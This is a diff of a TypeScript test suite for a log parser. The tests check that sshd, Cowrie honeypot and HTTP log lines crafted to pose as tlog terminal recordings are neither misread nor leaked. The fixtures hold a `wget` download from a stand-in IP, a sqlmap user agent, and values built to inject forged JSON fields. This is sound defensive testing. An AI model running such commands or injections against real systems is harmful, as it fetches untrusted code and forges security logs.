@@ -72,15 +72,17 @@ describe("a record of tlog", () => {
   });
 });
 
+const READING: Reading = {
+  sensor: { id: "snr_00000000-0000-5000-8000-000000000001", name: "s", kind: "custom", metadata: {} } as never,
+  actor: { kind: "system", id: "test", name: "test" },
+  options: { format: "auto" },
+  identity: "a batch",
+  ref: undefined,
+  firstLine: 0,
+};
+
 describe("a recording nobody can read", () => {
-  const reading: Reading = {
-    sensor: { id: "snr_00000000-0000-5000-8000-000000000001", name: "s", kind: "custom", metadata: {} } as never,
-    actor: { kind: "system", id: "test", name: "test" },
-    options: { format: "auto" },
-    identity: "a batch",
-    ref: undefined,
-    firstLine: 0,
-  };
+  const reading = READING;
   const whole = JSON.stringify(record());
   const broken = {
     "cut off": whole.slice(0, -9),
@@ -127,6 +129,32 @@ const HIDERS = {
     message: `CMD: wget http://198.51.100.9/x #${RECORD}`,
   }),
   "a path": `203.0.113.7 - - [01/Mar/2026:10:00:00 +0000] "GET /timing?\\"in_txt\\" HTTP/1.1" 404 1 "-" "sqlmap"`,
+  "a name tried at a decoy": JSON.stringify({
+    eventid: "cowrie.login.failed",
+    timestamp: "2026-03-01T10:00:00Z",
+    src_ip: "203.0.113.7",
+    username: '{timing-in_txt"',
+    password: "x",
+    message: 'login attempt [{timing-in_txt"/x] failed',
+  }),
+  "data of a tunnel": JSON.stringify({
+    eventid: "cowrie.direct-tcpip.data",
+    timestamp: "2026-03-01T10:00:00Z",
+    src_ip: "203.0.113.7",
+    data: RECORD,
+    message: RECORD,
+  }),
+  "what an application repeats": JSON.stringify({
+    timestamp: "2026-03-01T10:00:00Z",
+    type: "http_request",
+    src_ip: "203.0.113.7",
+    message: `GET /?timing={"timing":"","rec":"x","id":1,"pos":0,"src_ip":"8.8.8.8","in_txt":"`,
+  }),
+  "what an application repeats and nothing else": JSON.stringify({
+    timestamp: "2026-03-01T10:00:00Z",
+    src_ip: "203.0.113.7",
+    message: RECORD,
+  }),
   "a user name": `Mar  1 10:00:00 gate sshd[9]: Failed password for invalid user tlog: ${RECORD} from 203.0.113.7 port 4000 ssh2`,
 };
 test.each(Object.entries(HIDERS))("%s that looks like a recording hides nothing", (_name, line) => {
@@ -134,6 +162,36 @@ test.each(Object.entries(HIDERS))("%s that looks like a recording hides nothing"
   expect(event.action).not.toBe("terminal.input");
   expect(event.src?.ip).toBe("203.0.113.7");
   expect(event.raw).toContain("timing");
+});
+
+describe("what is no recording by its form", () => {
+  const TYPED = {
+    "without timing": { rec: "r", id: 1, pos: 0, in_txt: "CANARY", in_bin: [67] },
+    "flattened by a shipper": { tlog_rec: "r", tlog_timing: "<6", tlog_in_txt: "CANARY", "tlog.out_txt": "CANARY" },
+    "with a timing that is no text": { rec: "r", timing: 5, deep: [{ in_txt: "CANARY" }] },
+  };
+  test.each(Object.entries(TYPED))("%s is kept without what stands under those names", (_name, json) => {
+    const prepared = prepare(
+      { text: JSON.stringify({ timestamp: "2026-03-01T10:00:00Z", action: "x", ...json }), place: 0 },
+      { ...READING },
+      now,
+    );
+    expect(JSON.stringify(prepared)).not.toMatch(/CANARY|67/);
+    expect(prepared).toMatchObject({ row: { action: "x", raw: expect.stringContaining("***") } });
+  });
+
+  test.each([
+    ["the rest of a record that syslog cut in two", 'Mar  1 10:00:00 web1 tlog-rec-session[7]: CANARY","in_bin":[]}'],
+    ["what a program of that name says otherwise", '<14>Mar  1 10:00:00 web1 tlog-rec: {"in_txt":"CANARY"}'],
+  ])("%s is refused without its text", (_name, text) => {
+    const prepared = prepare({ text, place: 0 }, READING, now);
+    expect(prepared).toMatchObject({ rejected: { reason: expect.stringContaining("terminal recording") } });
+  });
+
+  test("whoever writes a record says nothing of where they are", () => {
+    const { src } = read(`Mar  1 10:00:00 web1 tlog: ${JSON.stringify(record({ src_ip: "8.8.8.8" }))}`);
+    expect(src).toBeNull();
+  });
 });
 
 describe("a body that is a recording", () => {
